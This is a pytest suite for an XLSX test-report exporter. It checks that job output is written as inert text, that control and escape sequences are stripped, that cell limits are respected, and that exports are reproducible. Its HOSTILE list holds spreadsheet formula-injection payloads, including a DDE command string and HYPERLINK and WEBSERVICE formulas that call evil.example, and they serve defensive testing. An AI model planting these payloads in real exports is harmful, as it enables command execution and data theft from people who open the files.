"""The XLSX report: no formula from job text, cells Excel accepts, same bytes."""

from __future__ import annotations

import csv
import datetime
import io
import re
import shutil
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st

from plainbox.errors import ExporterError
from plainbox.exporters.xlsxreport import CELL_LIMIT
from plainbox.exporters.xlsxreport import DEFAULT_EXCERPT
from plainbox.exporters.xlsxreport import DEFAULT_LOG_LIMIT
from plainbox.exporters.xlsxreport import XlsxExporter
from plainbox.exporters.xlsxreport import cap_text
from plainbox.exporters.xlsxreport import cell_text
from plainbox.exporters.xlsxreport import clean_text
from plainbox.exporters.xlsxreport import split_text
from plainbox.session.results import Outcome
from plainbox.session.view import SessionView
from tests.exporters.conftest import FakeJob


# Text that a spreadsheet would run, or that would run once the cell is
# edited: formulas, DDE, hyperlinks, and the tab/CR-prefixed variants some
# sanitizers miss.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("https://evil.example/?q="&A1,"click")',
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    ' =WEBSERVICE("https://evil.example")',
    "\uff1dSUM(1)",
    "#N/A",
    "#REF!",
]
RESULTS_HEADER = [
    "ID",
    "Summary",
    "Outcome",
    "Certification status",
    "Category",
    "Duration (s)",
    "Return code",
    "Attempts",
    "Comments",
    "Skip reason",
    "Output excerpt",
]
# The expected fill of each outcome's cells, written out here (not imported)
# so a changed palette is a visible test change.
FILLS = {
    Outcome.PASS: "FFC6EFCE",
    Outcome.FAIL: "FFFFC7CE",
    Outcome.CRASH: "FFFF8F8F",
    Outcome.UNDECIDED: "FFFFEB9C",
    Outcome.SKIP: "FFD9D9D9",
    Outcome.SKIPPED_DEPENDENCY: "FFD9D9D9",
    Outcome.SKIPPED_RESOURCE: "FFD9D9D9",
    Outcome.SKIPPED_MANIFEST: "FFD9D9D9",
    Outcome.NOT_SUPPORTED: "FFEDEDED",
    Outcome.NOT_IMPLEMENTED: "FFEDEDED",
}
START = datetime.datetime(2027, 1, 15, 8, 0, 0)  # 1,800,000,000 s, in UTC


def export(view: SessionView, *options: str) -> bytes:
    stream = io.BytesIO()
    XlsxExporter(options).export(view, stream)
    return stream.getvalue()


def load(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


def excel_text(value: str) -> str:
    """Cell text as Excel shows it: ``_xHHHH_`` is the character U+HHHH."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), value)


def units(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


def rows(sheet: Any) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def records(sheet: Any) -> list[dict[str, Any]]:
    """A sheet's rows below the header, as header → cell."""
    header, *body = list(sheet.iter_rows())
    names = [cell.value for cell in header]
    return [dict(zip(names, row, strict=True)) for row in body]


def by_id(sheet: Any, job_id: str) -> dict[str, Any]:
    (row,) = [r for r in records(sheet) if r["ID"].value == f"com.example::{job_id}"]
    return row


def log_rows(book: Any, job_id: str, stream: str) -> list[Any]:
    return [
        row
        for row in records(book["Logs"])
        if row["ID"].value == f"com.example::{job_id}" and row["Stream"].value == stream
    ]


def all_cells(book: Any) -> list[Any]:
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def hostile_view(make_session):
    jobs = [
        FakeJob(
            f"evil-{number}",
            outcome="fail",
            return_code=1,
            comments=text,
            stdout=text.encode(),
            stderr=text.encode(),
        )
        for number, text in enumerate(HOSTILE)
    ]
    resource = "".join(f"key{n}: {text.strip()}\n\n" for n, text in enumerate(HOSTILE))
    jobs.append(FakeJob("res", plugin="resource", stdout=resource.encode()))
    return make_session(jobs)


def test_exporter_identity_and_options():
    assert (XlsxExporter.id, XlsxExporter.file_extension) == ("xlsx", "xlsx")
    assert set(XlsxExporter.option_help) == {"excerpt", "log-limit"}
    default = XlsxExporter()
    assert (default.excerpt, default.log_limit) == (DEFAULT_EXCERPT, DEFAULT_LOG_LIMIT)
    custom = XlsxExporter(["excerpt=0", "log-limit=10"])
    assert (custom.excerpt, custom.log_limit) == (0, 10)


@pytest.mark.parametrize("option", ["excerpt", "log-limit"])
@pytest.mark.parametrize("value", ["", "-1", "lots", "1.5"])
def test_a_bad_number_option_is_an_error(option, value):
    with pytest.raises(ExporterError, match=option):
        XlsxExporter([f"{option}={value}"])


def test_unknown_options_are_errors_only_when_strict():
    with pytest.raises(ExporterError, match="no option 'colour'"):
        XlsxExporter(["colour=no"])
    assert XlsxExporter(["colour=no"], strict=False).options == {}


def test_sheets_and_header_rows(make_session):
    book = load(export(make_session([FakeJob("a")])))

    assert book.sheetnames == [
        "Summary",
        "Results",
        "Descriptions",
        "Logs",
        "Resources",
    ]
    assert rows(book["Results"])[0] == RESULTS_HEADER
    assert rows(book["Descriptions"])[0] == [
        "ID",
        "Summary",
        "Plugin",
        "Category",
        "Description",
        "Command",
    ]
    assert rows(book["Logs"])[0] == ["ID", "Stream", "Part", "Text"]
    assert rows(book["Resources"])[0] == ["Resource job", "Record", "Key", "Value"]
    for name in ("Results", "Descriptions", "Logs", "Resources"):
        assert all(cell.font.bold for cell in book[name][1])


def test_no_cell_holds_a_formula_from_job_text(hostile_view):
    data = export(hostile_view, "excerpt=0")
    book = load(data)

    cells = all_cells(book)
    assert cells
    # Strings, numbers and the Summary's dates; never "f" (formula) or "e" (error).
    types = {cell.data_type for cell in cells if cell.value is not None}
    assert types <= {"s", "n", "d"}
    # The sheets' XML itself has no formula element, whatever reads it.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert re.search(rb"<f[ >]", archive.read(name)) is None, name
    results = book["Results"]
    for number, text in enumerate(HOSTILE):
        row = by_id(results, f"evil-{number}")
        assert row["Comments"].value == text
        assert row["Comments"].data_type == "s"
        assert row["Output excerpt"].value == f"{text}\n[stderr]\n{text}"
        for stream in ("stdout", "stderr"):
            (log,) = log_rows(book, f"evil-{number}", stream)
            assert (log["Text"].value, log["Text"].data_type) == (text, "s")


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_keeps_excels_quote_prefix(make_session, text):
    view = make_session([FakeJob("a", comments=text)])
    cell = by_id(load(export(view))["Results"], "a")["Comments"]

    # Text that is not formula-like but starts with "#": only the type
    # keeps it text, a quote prefix is not needed.
    assert cell.quotePrefix == (not text.startswith("#"))
    assert (cell.value, cell.data_type) == (text, "s")


def test_plain_text_has_no_quote_prefix(make_session):
    view = make_session([FakeJob("a", comments="all fine - really")])
    cell = by_id(load(export(view))["Results"], "a")["Comments"]
    assert (cell.value, cell.quotePrefix) == ("all fine - really", False)


def test_resource_values_are_text_in_the_resources_sheet(hostile_view):
    sheet = load(export(hostile_view))["Resources"]
    body = rows(sheet)[1:]

    assert body == [
        ["com.example::res", number, f"key{number - 1}", text.strip()]
        for number, text in enumerate(HOSTILE, start=1)
    ]
    for row in sheet.iter_rows(min_row=2):
        assert [cell.data_type for cell in row] == ["s", "n", "s", "s"]


def test_resources_one_row_per_field_of_each_record(make_session):
    output = b"name: eth0\nspeed: 1000\n\nname: wlan0\nspeed: 300\nstate: up\n"
    view = make_session([FakeJob("net", plugin="resource", stdout=output)])
    body = rows(load(export(view))["Resources"])[1:]

    assert body == [
        ["com.example::net", 1, "name", "eth0"],
        ["com.example::net", 1, "speed", "1000"],
        ["com.example::net", 2, "name", "wlan0"],
        ["com.example::net", 2, "speed", "300"],
        ["com.example::net", 2, "state", "up"],
    ]


def test_control_characters_are_removed_and_tab_newline_cr_kept(make_session):
    output = b"a\x00b\x01\x08c\x0bd\x0ce\x1f\x7f\xc2\x85f\tg\r\nh\n"
    view = make_session(
        [FakeJob("ctl", stdout=output, comments="x\x00\x0b\x0c\ty\r\nz")]
    )
    book = load(export(view))

    (log,) = log_rows(book, "ctl", "stdout")
    assert log["Text"].value == "abcdef\tg\r\nh\n"
    row = by_id(book["Results"], "ctl")
    assert row["Comments"].value == "x\ty\r\nz"
    assert row["Output excerpt"].value == "abcdef\tg\r\nh\n"


def test_escape_sequences_go_whole_without_residue(make_session):
    output = (
        b"\x1b[1;31mred\x1b[0m \x1b]8;;https://evil.example/\x07link\x1b]8;;\x07"
        b" \x1b]52;c;Y2xpcGJvYXJk\x07\x1b[2J\x1b(B end\n"
        b"stray \x1b]no terminator\nnext line\n"
    )
    view = make_session([FakeJob("ansi", stdout=output)])
    (log,) = log_rows(load(export(view)), "ansi", "stdout")

    # An unterminated string ends with its line: the next line survives.
    assert log["Text"].value == "red link  end\nstray \nnext line\n"


def test_invalid_utf8_output_is_decoded_with_replacement(make_session):
    view = make_session([FakeJob("bytes", stdout=b"bad \xff\xfe\xc3\x28 end\n")])
    (log,) = log_rows(load(export(view)), "bytes", "stdout")
    assert log["Text"].value == "bad \ufffd\ufffd\ufffd( end\n"


def test_xstring_escapes_stay_literal_text(make_session):
    text = "_x0041_ and _x005F_ and _x00zz_"
    view = make_session([FakeJob("xs", comments=text, stdout=text.encode())])
    book = load(export(view))

    comments = by_id(book["Results"], "xs")["Comments"].value
    assert comments == "_x005F_x0041_ and _x005F_x005F_ and _x00zz_"
    assert excel_text(comments) == text
    (log,) = log_rows(book, "xs", "stdout")
    assert excel_text(log["Text"].value) == text


def test_long_text_is_capped_at_the_cell_limit_with_a_marker(make_session):
    output = "".join(f"line {n:06d}\n" for n in range(9_091))[:100_000]
    assert len(output) == 100_000
    view = make_session([FakeJob("big", comments=output, stdout=output.encode())])
    book = load(export(view, "excerpt=0"))
    row = by_id(book["Results"], "big")

    for cell in (row["Comments"], row["Output excerpt"]):
        value = cell.value
        # As full as the marker allows: its count takes at most a few digits.
        assert CELL_LIMIT - 3 <= len(value) <= CELL_LIMIT
        head, marker = value.rsplit("\n[… ", 1)
        assert output.startswith(head)
        dropped = int(marker.split(" ")[0].replace(",", ""))
        assert dropped == len(output) - len(head)
        assert marker.endswith("more characters cut: a cell holds at most 32,767]")


def test_long_logs_are_split_over_rows_that_join_back(make_session):
    output = "".join(f"line {n:06d}\n" for n in range(9_091))[:100_000]
    view = make_session([FakeJob("big", stdout=output.encode())])
    parts = log_rows(load(export(view)), "big", "stdout")

    assert [part["Part"].value for part in parts] == [1, 2, 3, 4]
    assert all(len(part["Text"].value) <= CELL_LIMIT for part in parts)
    assert "".join(part["Text"].value for part in parts) == output
    # Cuts fall at line ends: no line is broken across two rows.
    assert all(part["Text"].value.endswith("\n") for part in parts[:-1])


def test_the_cell_limit_counts_utf16_units_like_excel(make_session):
    emoji = "\U0001f600" * 20_000  # 40,000 UTF-16 units in 20,000 characters
    view = make_session([FakeJob("wide", comments=emoji, stdout=emoji.encode())])
    book = load(export(view))

    comments = by_id(book["Results"], "wide")["Comments"].value
    assert units(comments) <= CELL_LIMIT
    assert comments.startswith("\U0001f600" * 16_000)
    assert "more characters cut" in comments
    parts = log_rows(book, "wide", "stdout")
    assert len(parts) == 2
    assert all(units(part["Text"].value) <= CELL_LIMIT for part in parts)
    assert "".join(part["Text"].value for part in parts) == emoji


def test_log_limit_keeps_head_and_tail_around_a_marker(make_session):
    output = "".join(f"line {n:04d}\n" for n in range(1_000))  # 10,000 chars
    view = make_session([FakeJob("long", stdout=output.encode())])
    (log,) = log_rows(load(export(view, "log-limit=1000")), "long", "stdout")
    text = log["Text"].value

    head, rest = text.split("[… ", 1)
    marker, tail = rest.split(" …]\n", 1)
    assert output.startswith(head)
    assert output.endswith(tail)
    assert head.endswith("\n")
    assert tail.startswith("line ")
    dropped = int(marker.split(" ")[0].replace(",", ""))
    assert dropped == len(output) - len(head) - len(tail)
    assert marker.endswith("characters cut: log-limit is 1,000")
    assert len(head) + len(tail) <= 1_000


def test_excerpt_shows_the_head_and_points_to_logs(make_session):
    view = make_session([FakeJob("a", stdout=b"0123456789" * 10)])
    row = by_id(load(export(view, "excerpt=25"))["Results"], "a")
    assert row["Output excerpt"].value == (
        "0123456789012345678901234\n[… 75 more characters: see the Logs sheet]"
    )


def test_results_rows_hold_every_column_with_numbers_as_numbers(make_session):
    view = make_session(
        [
            FakeJob(
                "a",
                summary="First job",
                outcome="fail",
                return_code=2,
                duration=1.25,
                comments="broken",
                certification_status="blocker",
                category="com.example::cat-b",
                stdout=b"out\n",
                stderr=b"err\n",
            ),
            FakeJob(
                "b",
                outcome="skipped-dependency",
                return_code=None,
                skip_reason={"related_dependencies": ["com.example::a"], "x": [1]},
            ),
        ]
    )
    results = load(export(view))["Results"]
    first, second = records(results)

    assert [cell.value for cell in first.values()] == [
        "com.example::a",
        "First job",
        "fail",
        "blocker",
        "Category B",
        1.25,
        2,
        1,
        "broken",
        None,
        "out\n\n[stderr]\nerr\n",
    ]
    assert first["Duration (s)"].data_type == "n"
    assert first["Return code"].data_type == "n"
    # A failed blocker stands out.
    assert first["Certification status"].font.bold
    assert not second["Certification status"].font.bold
    assert second["Duration (s)"].value is None  # it never ran
    assert second["Return code"].value is None
    assert second["Skip reason"].value == (
        "required job did not pass: com.example::a\nx: [1]"
    )


def test_results_sheet_has_frozen_header_filter_and_widths(make_session):
    view = make_session([FakeJob(f"job-{n}") for n in range(3)])
    book = load(export(view))

    results = book["Results"]
    assert results.freeze_panes == "A2"
    assert results.auto_filter.ref == "A1:K4"
    assert results.column_dimensions["A"].width >= 12
    assert results.column_dimensions["K"].width == 60
    for name in ("Descriptions", "Logs", "Resources"):
        assert book[name].freeze_panes == "A2"
        assert book[name].auto_filter.ref is not None


def test_long_text_columns_wrap_and_short_ones_do_not(make_session):
    view = make_session(
        [
            FakeJob(
                "a",
                comments="one\ntwo",
                stdout=b"out\n",
                extra_fields={"description": "d"},
            )
        ]
    )
    book = load(export(view))
    row = by_id(book["Results"], "a")
    description = by_id(book["Descriptions"], "a")

    for cell in (row["Comments"], row["Output excerpt"], description["Description"]):
        assert (cell.alignment.wrap_text, cell.alignment.vertical) == (True, "top")
    for cell in (row["ID"], row["Summary"], log_rows(book, "a", "stdout")[0]["Text"]):
        assert not cell.alignment.wrap_text


@pytest.mark.parametrize("outcome", list(Outcome))
def test_outcome_cells_are_filled_with_the_outcomes_colour(make_session, outcome):
    view = make_session([FakeJob("a", outcome=outcome.value)])
    book = load(export(view))

    cell = by_id(book["Results"], "a")["Outcome"]
    assert cell.value == outcome.value
    assert (cell.fill.fill_type, cell.fill.fgColor.rgb) == ("solid", FILLS[outcome])
    (label,) = [
        row[0] for row in book["Summary"].iter_rows() if row[0].value == outcome.value
    ]
    assert label.fill.fgColor.rgb == FILLS[outcome]


def test_summary_holds_metadata_and_outcome_counts(make_session):
    view = make_session(
        [
            FakeJob("a"),
            FakeJob("b"),
            FakeJob("c", outcome="fail", certification_status="blocker"),
            FakeJob("d", outcome="skip", return_code=None),
        ],
        title="Nightly =run",
    )
    view = replace(view, created=1_800_000_000.0, flags=frozenset({"submitted"}))
    summary = load(export(view))["Summary"]
    table = {row[0].value: row[1:] for row in summary.iter_rows() if row[0].value}

    assert table["Title"][0].value == "Nightly =run"
    assert table["Title"][0].data_type == "s"
    assert table["Test plan"][0].value == "com.example::plan"
    assert table["Session id"][0].value == view.id
    assert table["Started (UTC)"][0].value == START
    assert table["Started (UTC)"][0].is_date
    # The jobs took 0.5 s each (the skipped one too, in make_session's clock).
    assert table["Finished (UTC)"][0].value == START + datetime.timedelta(seconds=2)
    assert table["Duration (s)"][0].value == pytest.approx(2.0)
    assert table["Devices"][0].value == "local"
    assert table["Flags"][0].value == "submitted"
    assert table["Jobs"][0].value == 4
    assert table["Failed certification blockers"][0].value == 1
    counts = {name: table[name][0].value for name in ("pass", "fail", "skip", "total")}
    assert counts == {"pass": 2, "fail": 1, "skip": 1, "total": 4}
    assert table["pass"][1].value == pytest.approx(0.5)
    assert all(table[name][0].data_type == "n" for name in counts)
    assert "crash" not in table  # only outcomes that happened


def test_summary_without_times_leaves_them_empty(make_session):
    view = replace(make_session([FakeJob("a")]), created=None, finished=None)
    data = export(view)
    table = {row[0].value: row[1:] for row in load(data)["Summary"].iter_rows()}

    assert table["Started (UTC)"][0].value is None
    assert table["Duration (s)"][0].value is None
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {info.date_time for info in archive.infolist()} == {
            (1980, 1, 1, 0, 0, 0)
        }


def test_descriptions_one_row_per_job(make_session):
    view = make_session(
        [
            FakeJob("a", extra_fields={"description": "Checks =things"}),
            FakeJob(
                "b",
                plugin="manual",
                extra_fields={
                    "purpose": "Look",
                    "steps": "1. Press",
                    "verification": "Lit?",
                },
            ),
        ]
    )
    body = rows(load(export(view))["Descriptions"])[1:]

    assert body == [
        [
            "com.example::a",
            "Summary of a",
            "shell",
            "Category A",
            "Checks =things",
            "true",
        ],
        [
            "com.example::b",
            "Summary of b",
            "manual",
            "Category A",
            "PURPOSE:\nLook\nSTEPS:\n1. Press\nVERIFICATION:\nLit?",
            "true",
        ],
    ]


def test_a_device_column_appears_with_more_than_one_device(make_session):
    view = make_session(
        [
            FakeJob("a", stdout=b"hello\n"),
            FakeJob("r", plugin="resource", stdout=b"k: v\n"),
        ]
    )
    entries = tuple(replace(entry, device="dut-1") for entry in view.entries)
    many = replace(view, entries=view.entries + entries, devices=("local", "dut-1"))
    book = load(export(many))

    assert rows(book["Results"])[0] == [
        *RESULTS_HEADER[:5],
        "Device",
        *RESULTS_HEADER[5:],
    ]
    assert [r["Device"].value for r in records(book["Results"])] == [
        "local",
        "local",
        "dut-1",
        "dut-1",
    ]
    assert book["Results"].auto_filter.ref == "A1:L5"
    assert rows(book["Logs"])[1:] == [
        ["com.example::a", "local", "stdout", 1, "hello\n"],
        ["com.example::r", "local", "stdout", 1, "k: v\n"],
        ["com.example::a", "dut-1", "stdout", 1, "hello\n"],
        ["com.example::r", "dut-1", "stdout", 1, "k: v\n"],
    ]
    assert rows(book["Resources"])[1:] == [
        ["com.example::r", "local", 1, "k", "v"],
        ["com.example::r", "dut-1", 1, "k", "v"],
    ]
    # Descriptions are per job, not per device.
    assert len(rows(book["Descriptions"])) == 3
    table = {row[0].value: row[1].value for row in book["Summary"].iter_rows()}
    assert table["Devices"] == "dut-1, local"


def test_no_device_column_with_one_device(make_session):
    book = load(export(make_session([FakeJob("a", stdout=b"x")])))
    assert "Device" not in rows(book["Results"])[0]
    assert rows(book["Logs"])[1] == ["com.example::a", "stdout", 1, "x"]


def test_two_exports_are_byte_identical(hostile_view):
    assert export(hostile_view) == export(hostile_view)


def test_zip_entries_and_properties_take_the_sessions_times(make_session):
    view = replace(
        make_session([FakeJob("a")]), created=1_800_000_000.0, finished=1_800_000_061.0
    )
    data = export(view)

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        infos = archive.infolist()
        core = archive.read("docProps/core.xml").decode()
    # Not the clock's time, nor the temp files' mtimes: the session's.
    assert {info.date_time for info in infos} == {(2027, 1, 15, 8, 0, 0)}
    assert "2027-01-15T08:00:00Z" in core  # created
    assert "2027-01-15T08:01:01Z" in core  # modified: when the session finished
    book = load(data)
    assert book.properties.created == START
    assert book.properties.creator.startswith("plainbox ")


def test_export_to_an_unseekable_stream(make_session):
    class Pipe(io.RawIOBase):
        """Write-only, like a pipe: no seek, no tell."""

        def __init__(self) -> None:
            self.data = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, chunk: Any) -> int:
            self.data += chunk
            return len(chunk)

    view = make_session([FakeJob("a", stdout=b"=1+1\n")])
    pipe = Pipe()
    XlsxExporter().export(view, pipe)  # type: ignore[arg-type]
    (log,) = log_rows(load(bytes(pipe.data)), "a", "stdout")
    assert (log["Text"].value, log["Text"].data_type) == ("=1+1\n", "s")


def test_an_empty_session_exports(make_session):
    book = load(export(make_session([])))
    assert rows(book["Results"]) == [RESULTS_HEADER]
    table = {row[0].value: row[1].value for row in book["Summary"].iter_rows()}
    assert (table["Jobs"], table["total"]) == (0, 0)


# -- Properties of the text helpers -------------------------------------------

# Text with everything the helpers treat specially: escapes, controls,
# astral characters, xstring look-alikes, line ends.
TRICKY = st.lists(
    st.sampled_from(
        [
            *("a", "=", "_", "x", "0", "5", "F", "_x005F_", "_x0041_", "\n", "\t"),
            *("\r", "\x00", "\x0b", "\x1b", "[", "]", "\x07", "\x85", "\ud800"),
            *("\uffff", "\U0001f600", "é"),
        ]
    ),
    max_size=200,
).map("".join)
FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")


@given(TRICKY)
def test_clean_text_leaves_only_what_a_cell_holds(text):
    cleaned = clean_text(text)
    assert FORBIDDEN.search(cleaned) is None
    assert clean_text(cleaned) == cleaned


@given(
    st.text(
        alphabet=st.characters(blacklist_categories=["Cc", "Cs"])
        | st.sampled_from("\t\n\r")
    )
)
def test_clean_text_keeps_ordinary_text(text):
    text = text.replace("\ufffe", "").replace("\uffff", "")
    assert clean_text(text) == text


@given(TRICKY, st.integers(min_value=8, max_value=120))
def test_split_parts_fit_and_join_back(text, limit):
    escaped = cell_text(text, limit=10**9)
    parts = split_text(escaped, limit)

    assert "".join(parts) == escaped
    assert all(units(part) <= limit for part in parts)
    # No escape is cut: each part read alone shows its share of the text.
    assert "".join(excel_text(part) for part in parts) == excel_text(escaped)
    assert excel_text(escaped) == clean_text(text)


@given(TRICKY, st.integers(min_value=120, max_value=400))
def test_cap_fits_the_limit_and_marks_the_cut(text, limit):
    escaped = cell_text(text, limit=10**9)
    capped = cap_text(escaped, limit)

    assert units(capped) <= limit
    if units(escaped) <= limit:
        assert capped == escaped
    else:
        head = capped.rsplit("\n[… ", 1)[0]
        assert escaped.startswith(head)
        assert excel_text(escaped).startswith(excel_text(head))
        assert capped.endswith(f"a cell holds at most {CELL_LIMIT:,}]")


def test_any_comment_reads_back_as_its_cleaned_text(make_session):
    # One session, built once: each example only swaps the comments in.
    view = make_session([FakeJob("a")])

    @settings(max_examples=30, deadline=None)
    @given(text=TRICKY)
    def check(text):
        entry = view.entries[0]
        entry = replace(entry, result=replace(entry.result, comments=text))
        book = load(export(replace(view, entries=(entry,))))
        cell = by_id(book["Results"], "a")["Comments"]

        assert cell.value is None or cell.data_type == "s"
        assert excel_text(cell.value or "") == clean_text(text)

    check()


@pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed"
)
def test_libreoffice_reads_hostile_cells_as_text(hostile_view, tmp_path: Path):
    path = tmp_path / "report.xlsx"
    path.write_bytes(export(hostile_view))
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    with open(tmp_path / "report-Results.csv", newline="", encoding="utf-8") as file:
        table = list(csv.reader(file))
    comments = {row[0]: row[8] for row in table[1:]}
    for number, text in enumerate(HOSTILE):
        # Evaluated, "=1+1" would read "2"; "+1+1" would read "2".
        assert comments[f"com.example::evil-{number}"] == text
